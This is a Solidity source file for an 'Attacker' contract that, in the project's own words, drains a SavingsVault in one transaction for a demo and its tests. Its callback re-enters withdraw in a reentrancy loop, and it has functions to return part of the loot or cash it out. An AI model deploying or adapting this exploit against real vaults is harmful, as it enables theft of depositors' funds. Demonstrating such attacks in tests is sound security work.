// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {RecoveryVault} from "../RecoveryVault.sol";
import {IWithdrawReceiver, SavingsVault} from "./SavingsVault.sol";

/// @title Attacker: drains SavingsVault in one transaction, for the demo and its tests.
/// @notice With a seed as large as the vault each round takes half of what is left.
contract Attacker is Ownable, IWithdrawReceiver {
    using SafeERC20 for IERC20;

    SavingsVault public immutable VAULT;
    IERC20 public immutable ASSET;
    uint256 private _rounds;

    event Drained(uint256 seed, uint256 loot);
    event Returned(bytes32 indexed incidentId, uint256 amount);

    constructor(SavingsVault vault) Ownable(msg.sender) {
        VAULT = vault;
        ASSET = vault.ASSET();
    }

    /// @notice Deposits `seed` base units (allowance from the owner needed) and withdraws them `rounds` times.
    /// @return loot what was taken beyond the seed; it stays here
    function attack(uint256 seed, uint256 rounds) external onlyOwner returns (uint256 loot) {
        ASSET.safeTransferFrom(msg.sender, address(this), seed);
        uint256 before = ASSET.balanceOf(address(this));
        ASSET.forceApprove(address(VAULT), seed);
        uint256 shares = VAULT.deposit(seed);
        _rounds = rounds - 1;
        VAULT.withdraw(shares);
        loot = ASSET.balanceOf(address(this)) - before;
        emit Drained(seed, loot);
    }

    /// @inheritdoc IWithdrawReceiver
    function onVaultWithdraw(uint256) external {
        if (msg.sender != address(VAULT) || _rounds == 0) return;
        --_rounds;
        VAULT.withdraw(VAULT.sharesOf(address(this)));
    }

    /// @notice Returns part of the loot to the victims of an incident.
    function giveBack(RecoveryVault recovery, bytes32 incidentId, uint256 amount) external onlyOwner {
        ASSET.forceApprove(address(recovery), amount);
        recovery.depositRecovery(incidentId, address(ASSET), amount);
        emit Returned(incidentId, amount);
    }

    function cashOut(address to, uint256 amount) external onlyOwner {
        ASSET.safeTransfer(to, amount);
    }
}
